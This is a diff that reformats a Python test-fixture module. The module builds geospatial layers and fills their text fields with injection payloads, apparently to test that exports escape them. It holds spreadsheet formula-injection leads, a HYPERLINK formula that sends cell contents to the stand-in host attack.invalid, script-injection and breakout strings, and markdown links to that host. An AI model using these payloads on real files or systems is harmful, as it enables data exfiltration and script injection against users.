@@ -17,7 +17,25 @@ HOST: Final = "attack.invalid"
 #: side of a cell of the grid of zones, metres: places far enough apart to be concerns of their own
 STEP: Final = 400.0
 
-_LEADS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "＝", ";=", ",=", "|=", "%=", "\u200b=", "#")
+_LEADS: Final = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "'=",
+    '"=',
+    "＝",
+    ";=",
+    ",=",
+    "|=",
+    "%=",
+    "\u200b=",
+    "#",
+)
 _FORMULAS: Final = (
     "1+1",
     'HYPERLINK("http://attack.invalid/?"&A1,"ici")',
@@ -55,7 +73,7 @@ _HTML: Final = (
     "<title></title><script>{flag}</script>",
     "<textarea></textarea><script>{flag}</script>",
 )
-_BREAKOUTS: Final = ("", "\"", "'", "\">", "'>", "--></script>", "]]>", "\\u003c", "`")
+_BREAKOUTS: Final = ("", '"', "'", '">', "'>", "--></script>", "]]>", "\\u003c", "`")
 _MARKDOWN: Final = (
     "a | b | c", "||", "a\nb", "a\n\nb", "a\r\n# b", "`code`", "``", "```\ncode", "~~~\ncode", "[l](http://attack.invalid)",
     "![i](http://attack.invalid/i.png)", "[l][r]\n\n[r]: http://attack.invalid", "[r]: http://attack.invalid 'x'",
@@ -159,7 +177,9 @@ def reservoirs(texts: tuple[str, ...], name: str = "reservoirs_a_preserver") -> 
         x, y = _cell(n, wide)
         boxes.append(shapely.box(x + 100, y + 20, x + 320, y + 280))
     frame = gpd.GeoDataFrame(
-        {"ID": _objects(turned), "NOM": _objects(turned), "TYPE": _objects(texts), "REMARQUE": _objects(texts)}, geometry=boxes, crs="EPSG:2154"
+        {"ID": _objects(turned), "NOM": _objects(turned), "TYPE": _objects(texts), "REMARQUE": _objects(texts)},
+        geometry=boxes,
+        crs="EPSG:2154",
     )
     frame.attrs["layer"] = name
     return frame
@@ -169,7 +189,9 @@ def points(texts: tuple[str, ...], name: str = "obstacles_corridors") -> Any:
     """An obstacle a text, in the middle of its zone."""
     wide = int(len(texts) ** 0.5) + 1
     spots = [shapely.Point(_cell(n, wide)[0] + 210, _cell(n, wide)[1] + 150) for n in range(len(texts))]
-    frame = gpd.GeoDataFrame({"ID": _objects(texts), "TYPE": _objects(texts), "NOM": _objects(texts)}, geometry=spots, crs="EPSG:2154")
+    frame = gpd.GeoDataFrame(
+        {"ID": _objects(texts), "TYPE": _objects(texts), "NOM": _objects(texts)}, geometry=spots, crs="EPSG:2154"
+    )
     frame.attrs["layer"] = name
     return frame
 
